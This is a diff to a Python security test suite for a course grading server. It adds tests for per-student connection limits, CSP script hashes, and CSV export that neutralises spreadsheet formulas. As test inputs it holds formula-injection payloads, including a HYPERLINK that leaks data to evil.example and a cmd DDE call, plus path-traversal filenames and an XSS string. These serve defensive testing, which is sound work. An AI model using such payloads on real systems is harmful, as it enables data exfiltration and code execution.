@@ -43,6 +43,7 @@ from grader.serve.course import Settings
 from grader.serve.store import Rules
 a = json.loads(sys.argv[1])
 course.BODY_TIMEOUT_S = a["body_timeout"]
+course.STREAMS_PER_PERSON = a["streams"]
 run_server(Settings(__import__("pathlib").Path(a["folder"]), "bias_gelu_fused", "emulator", rules=Rules(**a["rules"]),
                     worker=False, leaderboard=True), port=a["port"], connections=a["connections"])
 """
@@ -58,12 +59,13 @@ class Attacked:
     """A course server without a grading worker (uploads stay queued unless a test moves them with
     the store's own calls), its log in folder/server.log."""
 
-    def __init__(self, folder: Path, *, connections: int = 2048, body_timeout: float = 60.0, **rules):
+    def __init__(self, folder: Path, *, connections: int = 2048, body_timeout: float = 60.0, streams: int = 128,
+                 **rules):
         self.folder, self.port = folder, free_port()
         self.host = f"127.0.0.1:{self.port}"
         self.log = folder / "server.log"
         args = {"folder": str(folder), "port": self.port, "rules": rules, "connections": connections,
-                "body_timeout": body_timeout}
+                "body_timeout": body_timeout, "streams": streams}
         with open(self.log, "ab") as log:
             self.proc = subprocess.Popen(["timeout", str(SERVER_LIFE_S), sys.executable, "-c", LAUNCH, json.dumps(args)],
                                          stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
@@ -339,6 +341,8 @@ def test_multipart_tricks_names_bytes_sizes_and_fields(course):
     assert name_of(api_upload(server, token, filename="..\\..\\win.cu")) == "win.cu"
     assert name_of(api_upload(server, token, filename="/etc/passwd")) == "passwd"
     assert name_of(api_upload(server, token, filename="..")) == "kernel.cu"
+    for formula in ('=HYPERLINK("http://evil.example/"&A1).cu', "+1+cmd|' /C calc'!A0.cu", "-2+3.cu", "@SUM(1).cu"):
+        assert name_of(api_upload(server, token, filename=formula))[0] not in "=+-@"     # no formula in the CSVs
     weird = name_of(api_upload(server, token, filename="a\x00b\x01c.cu"))
     assert "\x00" not in weird and "\x01" not in weird and weird.endswith(".cu")
     for length in (300, 5000):                  # a long name: kept short, or the form refused (its part's header)
@@ -405,6 +409,35 @@ def test_a_content_length_that_lies_keeps_nothing_and_breaks_nothing(course):
     store.close()
 
 
+def test_connections_of_one_student_are_bounded_event_streams_too(tmp_path):
+    people = issue(tmp_path, "hog", "ann")
+    server = Attacked(tmp_path, streams=4)
+    held = []
+    try:
+        hog, ann = api_upload(server, people["hog"]).json()["id"], api_upload(server, people["ann"]).json()["id"]
+
+        def stream(upload, token) -> bytes:
+            s = socket.create_connection(("127.0.0.1", server.port), timeout=T)
+            s.sendall(f"GET /api/submissions/{upload}/events HTTP/1.1\r\nHost: {server.host}\r\n"
+                      f"Authorization: Bearer {token}\r\n\r\n".encode())
+            held.append(s)
+            return s.recv(4096)
+
+        assert all(stream(hog, people["hog"]).startswith(b"HTTP/1.1 200") for _ in range(4))
+        over = stream(hog, people["hog"])
+        assert over.startswith(b"HTTP/1.1 429") and b"retry-after" in over.lower()
+        assert stream(ann, people["ann"]).startswith(b"HTTP/1.1 200")          # another student's are their own
+        held.pop(0).close()                                                   # one closed: one more may open
+        deadline = time.monotonic() + 5
+        while not stream(hog, people["hog"]).startswith(b"HTTP/1.1 200"):
+            assert time.monotonic() < deadline
+            time.sleep(0.2)
+    finally:
+        for s in held:
+            s.close()
+        server.stop()
+
+
 # --- injection ---------------------------------------------------------------------------------------
 
 HOSTILE = '"><img src=x onerror=alert(1)><script>alert(2)<\\script>'
@@ -439,6 +472,15 @@ def test_html_and_script_in_identifiers_filenames_and_aliases_are_escaped(tmp_pa
         doc = req(server, "GET", "/api/class", token=people["@instructor"])
         assert doc.headers["Content-Type"].startswith("application/json") and doc.headers["X-Content-Type-Options"] == "nosniff"
         assert HOSTILE in {r["student"] for r in doc.json()["students"]}       # kept as given, escaped where shown
+        # the class report's own sorting script runs (allowed by its hash), no other inline script would
+        import base64
+        import hashlib
+
+        script_src = pages[4].headers["Content-Security-Policy"].split("script-src", 1)[1].split(";")[0]
+        assert "unsafe-inline" not in script_src and "sandbox" not in pages[4].headers["Content-Security-Policy"]
+        inline = re.findall(r"<script>(.*?)</script>", pages[4].text, re.S)
+        assert inline and all("'sha256-" + base64.b64encode(hashlib.sha256(b.encode()).digest()).decode() + "'"
+                              in script_src for b in inline)
         wrong = api_upload(server, people["plain"], extra=[("exercise", None, b"<script>alert(5)</script>")])
         assert wrong.status == 400 and wrong.headers["Content-Type"].startswith("application/json")
         assert wrong.headers["X-Content-Type-Options"] == "nosniff"
@@ -498,6 +540,30 @@ def test_a_served_report_runs_no_script_in_the_servers_origin(course):
     assert not any("allow-scripts" in d or "allow-same-origin" in d for d in csp)
     assert got.headers["X-Content-Type-Options"] == "nosniff" and got.headers["Referrer-Policy"] == "no-referrer"
     assert req(server, "GET", f"/submissions/{aid}/report", token=people["bob"]).status == 404
+
+
+def test_the_export_writes_no_formula_and_no_path_a_student_chose(tmp_path):
+    from grader.serve.course import clean_name
+    from grader.serve.export import export_class
+
+    Store(tmp_path).close()
+    store = Store(tmp_path)
+    store.set_setting("exercise", EXERCISE)
+    store.issue("ann")
+    got = store.accept("ann", clean_name('../../=HYPERLINK("http://evil.example/"&A1).cu'), SRC, Rules())
+    store.claim_wave()
+    store.finish(got.id, result=result_json(), report_md="", report_html="<p>r</p>")
+    store.close()
+    out = tmp_path / "out"
+    export_class(tmp_path, out=out)
+    import csv
+
+    for name in ("summary.csv", "gradebook.csv"):
+        with open(out / name, newline="") as f:
+            cells = [c for row in csv.reader(f) for c in row]
+        assert cells and not any(c[:1] in ("=", "+", "@") for c in cells), (name, cells)
+    assert sorted(p.name for p in out.iterdir() if p.is_dir()) == ["ann"]      # nothing written beside the out folder
+    assert not (tmp_path / "=HYPERLINK(").exists()
 
 
 def test_a_crlf_in_a_filename_injects_no_header(course):
